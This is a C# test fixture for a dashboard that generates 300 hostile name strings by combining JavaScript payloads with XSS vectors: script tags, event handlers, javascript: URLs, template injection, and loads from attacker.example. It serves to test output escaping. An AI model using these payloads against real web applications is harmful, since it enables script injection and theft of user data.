namespace TokenBudget.Dashboard.Tests;

/// <summary>300 names that want to be more than text: each vector, in each of the ways into markup, styles, addresses and templates.</summary>
internal static class HostileNames
{
    private static readonly string[] Payloads =
    [
        "window.ran++", "alert(1)", "window['ran']++", "top.ran=1", "self[`ran`]=1", "(()=>{window.ran++})()", "eval('window.ran++')", "Function('window.ran++')()", "setTimeout('window.ran++')", "fetch('//attacker.example')",
    ];

    private static readonly string[] Vectors =
    [
        "<script>{0}</script>", "</script><script>{0}</script>", "<img src=x onerror=\"{0}\">", "<svg onload=\"{0}\">", "<svg><script>{0}</script></svg>", "\"><img src=x onerror={0}>",
        "' onmouseover='{0}' x='", "\" autofocus onfocus=\"{0}", "<body onload={0}>", "<iframe src=\"javascript:{0}\"></iframe>", "<iframe srcdoc=\"<script>parent.{0}</script>\"></iframe>",
        "<a href=\"javascript:{0}\">x</a>", "javascript:{0}", "<math><mtext></mtext><mglyph><style><img src=x onerror={0}></style></mglyph></math>", "<details open ontoggle={0}>", "<video><source onerror={0}></video>",
        "<input autofocus onfocus={0}>", "<style>@import 'http://attacker.example/x.css';</style><b>{0}</b>", "<link rel=stylesheet href=//attacker.example/{0}>", "<base href=//attacker.example/>{0}", "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
        "<object data=\"javascript:{0}\"></object>", "<template><img src=x onerror={0}></template>", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "<div v-html=\"'<img src=x onerror={0}>'\"></div>", "<p :title=\"{0}\" @click=\"{0}\">", "--><img src=x onerror={0}><!--",
        "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "\u202e<img src=x onerror={0}>\u0000",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Vectors.SelectMany(static vector => Payloads.Select(payload => string.Format(System.Globalization.CultureInfo.InvariantCulture, vector, payload)))];
}
